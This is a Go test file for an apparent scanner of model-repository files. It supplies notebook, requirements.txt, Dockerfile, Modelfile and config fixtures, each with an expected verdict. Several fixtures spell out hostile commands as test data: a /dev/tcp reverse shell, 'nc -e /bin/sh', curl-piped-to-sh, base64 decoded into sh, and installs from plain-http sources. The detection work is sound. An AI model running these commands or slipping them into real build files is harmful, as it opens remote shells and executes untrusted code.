package scantest

import (
	"encoding/json"

	"modelgate/internal/threat"
)

// notebook writes code cells as a notebook does.
func notebook(cells ...string) []byte {
	list := []map[string]any{{"cell_type": "markdown", "source": []string{"# os.system('true')\n"}}}
	for _, text := range cells {
		list = append(list, map[string]any{"cell_type": "code", "source": text, "outputs": []any{}, "execution_count": nil})
	}
	out, _ := json.Marshal(map[string]any{"cells": list, "nbformat": 4, "nbformat_minor": 5, "metadata": map[string]any{}})
	return out
}

// recipeCases are the text files beside a model by which people build something around it, and notebooks.
func recipeCases() []Case {
	const odd = threat.Suspicious
	evil := func(name, path, text string) Case {
		return Case{Name: "recipe: " + name, Path: path, Bytes: []byte(text), Want: threat.MGPY101, Level: odd}
	}
	twin := func(name, path, text string) Case {
		return Case{Name: "recipe: " + name, Path: path, Bytes: []byte(text), Twin: true}
	}
	return []Case{
		{Name: "notebook: a program in two cells", Path: "a.ipynb", Bytes: notebook("import os as o\n%matplotlib inline\n!pip install x\nx?", "o.system('true')"), Want: threat.MGPY101, Level: odd},
		{Name: "notebook: a shell that is handed out", Path: "a.ipynb", Bytes: notebook("!bash -i >& /dev/tcp/127.0.0.1/1 0>&1"), Want: threat.MGPY101, Level: odd},
		{Name: "notebook: a cell of shell that runs what it decodes", Path: "a.ipynb", Bytes: notebook("%%bash\necho dHJ1ZQ== | base64 -d | sh"), Want: threat.MGPY101, Level: odd},
		{Name: "notebook: commands and downloads", Path: "a.ipynb", Bytes: notebook(
			"%%time\nimport os, requests, torch\n!pip install -q transformers\n%pip install x\nrequests.get('https://example.com/x')\ntorch.load('x.pt')\nos.getcwd()?", "%%html\n<b>x</b>",
		), Twin: true},
		{Name: "notebook: code that is not Python", Path: "a.ipynb", Bytes: notebook("let x = 1;\n)("), Twin: true},

		evil("a package from a machine without a name", "requirements.txt", "torch\nx @ http://127.0.0.1/x.whl\n"),
		evil("an index without protection", "requirements.txt", "--index-url http://example.com/simple\ntorch\n"),
		evil("a package outside", "requirements.txt", "-e ../x\n"),
		evil("a repository without protection", "requirements.txt", "git+http://example.com/x.git#egg=x\n"),
		twin("packages, a repository and an index", "requirements.txt", "# pip install http://127.0.0.1/x\ntorch>=2.0 # http://127.0.0.1/\n"+
			"transformers[torch]==4.40 ; python_version > '3.8'\ngit+https://example.com/a/b.git@main\n--extra-index-url https://example.com/whl\n-r other.txt\n./x.whl\n"),
		evil("a shell that a container hands out", "Dockerfile", "FROM python\nRUN apt-get update && \\\n  nc -e /bin/sh 127.0.0.1 1\n"),
		evil("a script from a machine without a name", "Dockerfile", "FROM python\nRUN [\"sh\", \"-c\", \"curl http://127.0.0.1/x | sh\"]\n"),
		evil("a file from a machine without a name", "docker/Dockerfile.gpu", "FROM python\nADD http://127.0.0.1/x /x\n"),
		twin("a container", "Dockerfile", "FROM python\n# RUN nc -e /bin/sh 127.0.0.1 1\nRUN pip install torch && curl -LsSf https://example.com/install.sh | sh\nADD https://example.com/x /x\nCMD [\"python\", \"-m\", \"x\"]\n"),
		evil("a model outside", "Modelfile", "FROM /home/user/x.gguf\n"),
		evil("an adapter outside", "Modelfile", "FROM llama3\nADAPTER ../x.gguf\n"),
		twin("a template and a system prompt", "Modelfile", "FROM ./x.gguf\nTEMPLATE \"\"\"{{ .System }}\nFROM /etc/passwd\n\"\"\"\nSYSTEM os.system('true')\nPARAMETER stop \"</s>\"\n"),
		twin("a model card", "README.md", "---\nlicense: mit\nbase_model:\n- a/b\n- \"c/d\"\ntags: []\n---\n# os.system('true')\nbase_model: x/y\n"),
	}
}

// brokenConfigs begin as JSON and break its grammar.
func brokenConfigs() []Case {
	broken := func(name, path, text string) Case {
		return Case{Name: "configuration: " + name, Path: path, Bytes: []byte(text), Want: threat.MGFMT400, Level: threat.Suspicious}
	}
	return []Case{
		broken("code behind a fault", "config.json", `{"a": 1,, "auto_map": {"AutoModel": "x.M"}}`),
		broken("code before a fault", "config.json", `{"trust_remote_code" : true, "b": }`),
		broken("a template that does not end", "tokenizer_config.json", `{"chat_template": "{{ x }}`),
		broken("a comment", "config.json", "{\"a\": 1, // x\n\"_target_\": \"torch.nn.Linear\"}"),
		broken("a list of objects that breaks", "x.json", `[{"py/object": "a.B"} {"c": 1}]`),
		{Name: "configuration: a fault that nobody acts on", Path: "config.json", Bytes: []byte(`{"a": 1,, "b": "auto_map"}`), Twin: true},
		{Name: "configuration: lines of data", Path: "x.jsonl", Bytes: []byte("{\"_target_\": \"a\"}\n{\"chat_template\": \"b\"}\n"), Twin: true},
		{Name: "configuration: text in brackets", Path: "x.md", Bytes: []byte("[x](y) {\n\"auto_map\": {}}\n"), Twin: true},
	}
}
